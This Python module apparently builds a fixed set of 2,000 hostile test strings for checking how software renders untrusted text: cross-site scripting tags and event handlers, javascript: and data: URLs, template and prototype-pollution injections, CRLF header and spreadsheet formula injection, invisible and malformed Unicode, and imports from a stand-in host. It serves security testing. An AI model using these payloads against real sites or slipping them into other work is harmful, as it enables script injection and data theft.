"""2,000 texts that run as script, mislead or break something where they are read as anything but text."""

from __future__ import annotations

from collections.abc import Callable
from random import Random

MANY = 2_000
RUN = "window.executed=1"
TAGS = (
    *("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>"),
    *(
        "<body onload={}>",
        "<iframe srcdoc='<script>parent.{}</script>'>",
        "<details open ontoggle={}>",
        "<video><source onerror={}>",
    ),
    *(
        "<input autofocus onfocus={}>",
        "<marquee onstart={}>",
        "<object data='javascript:{}'>",
        "<embed src='javascript:{}'>",
    ),
    *(
        "<a href='javascript:{}'>more</a>",
        "<form action='javascript:{}'><button>Go</button></form>",
        "<math><mi xlink:href='javascript:{}'>",
    ),
    *(
        "<svg><animate onbegin={} attributeName=x dur=1s>",
        "<svg><set onbegin={} attributeName=x>",
        "<style onload={}></style>",
    ),
    *(
        "<svg><use href='data:image/svg+xml,<svg onload={}>'>",
        "<audio src=x onerror={}>",
        "<select autofocus onfocus={}>",
    ),
    *("<textarea autofocus onfocus={}>", "<keygen autofocus onfocus={}>", "<link rel=stylesheet href=x onerror={}>"),
    *(
        "<base href='javascript:{}//'>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<template><img src=x onerror={}></template>",
    ),
    *(
        "<noscript><p title='</noscript><img src=x onerror={}>'>",
        "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    ),
    *(
        "<svg></p><style><a id='</style><img src=x onerror={}>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    ),
    *(
        "<xmp><img src=x onerror={}></xmp>",
        "<!--><img src=x onerror={}>-->",
        "<![CDATA[<img src=x onerror={}>]]>",
        "<?xml <img src=x onerror={}>?>",
    ),
    *(
        "<div style='background:url(javascript:{})'>",
        "<div style='width:expression({})'>",
        "<style>@import 'javascript:{}'</style>",
    ),
    *(
        "<style>*{{background:url(//elsewhere.example/?{})}}</style>",
        "<p popover id=p onbeforetoggle={}>",
        "<button popovertarget=p onclick={}>Go",
    ),
)
PLAIN = (
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        "vbscript:{}",
        "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHN2Zz4={}",
    ),
    *(
        "' onmouseover={} x='",
        '" onfocus={} autofocus="',
        "`onerror={}`",
        "\\x3cscript\\x3e{}\\x3c/script\\x3e",
        "\\u003cscript>{}",
    ),
    *(
        "{{{{constructor.constructor('{}')()}}}}",
        "${{{}}}",
        "#{{{}}}",
        "<%= {} %>",
        "[[${{{}}}]]",
        "{{% {} %}}",
        "&#x3c;script&#x3e;{}",
    ),
    *(
        "&lt;script&gt;{}&lt;/script&gt;",
        "%3Cscript%3E{}%3C/script%3E",
        "+ADw-script+AD4-{}",
        "\uff1cscript\uff1e{}",
        "\u2039script\u203a{}",
    ),
    *(
        "__proto__",
        "constructor.prototype.{}",
        "'; {} //",
        "*/{}/*",
        "]]>{}",
        "-->{}",
        "</textarea>{}",
        "</title>{}",
        "</style>{}",
        "</script>{}",
    ),
    *(
        "\u202e{}\u202d",
        "\u200b{}\u200d\ufeff",
        "\u2066{}\u2069",
        "a\u0000{}",
        "a\u0008{}",
        "a\x1b[31m{}",
        "\ud800{}",
        "{}\udfff",
        "\ufffe{}",
    ),
    *(
        "Z\u0351\u0352\u0353\u0354{}",
        "\U000e0041\U000e0042{}",
        "\u00ad{}",
        "\u2028{}\u2029",
        "{}\r\nset-cookie: a=b",
        "=cmd|'{}'!A1",
        "url({})",
    ),
)
"""`{}` is what would run."""
CODES = (
    RUN,
    "alert(1)",
    "window['exec'+'uted']=1",
    "top.executed=1",
    "eval('executed=1')",
    "import('//elsewhere.example/x.js')",
)


def _as_is(text: str) -> str:
    return text


def _mixed(text: str) -> str:
    return "".join(sign.upper() if at % 2 else sign for at, sign in enumerate(text))


WRITTEN: tuple[Callable[[str], str], ...] = (
    _as_is,
    lambda text: f'">{text}',
    lambda text: f"Read the policy. {text} Then go on.",
    lambda text: f"</p></div></dialog>{text}",
    lambda text: text.replace(" ", "/", 1),
    lambda text: text.replace(" ", "\n", 1),
    lambda text: text.replace("<", "<<", 1),
    lambda text: "\u200b".join((text[:3], text[3:])),
    lambda text: f"{text}<!--",
    _mixed,
    lambda text: f"{'x ' * 5_000}{text}",
    lambda text: f"\u05d0\u05d1{text}",
)


def payloads() -> tuple[str, ...]:
    """All 2,000, always the same; no two are the same."""
    dice = Random("desirepath/guidance/payloads")
    plain = [text.format(code) for text in (*TAGS, *PLAIN) for code in CODES]
    found = dict.fromkeys(plain)
    while len(found) < MANY:
        found[dice.choice(WRITTEN)(dice.choice(plain))] = None
    return tuple(found)


def few(count: int) -> tuple[str, ...]:
    """Some of all of them, always the same."""
    return tuple(Random("desirepath/guidance/few").sample(payloads(), count))
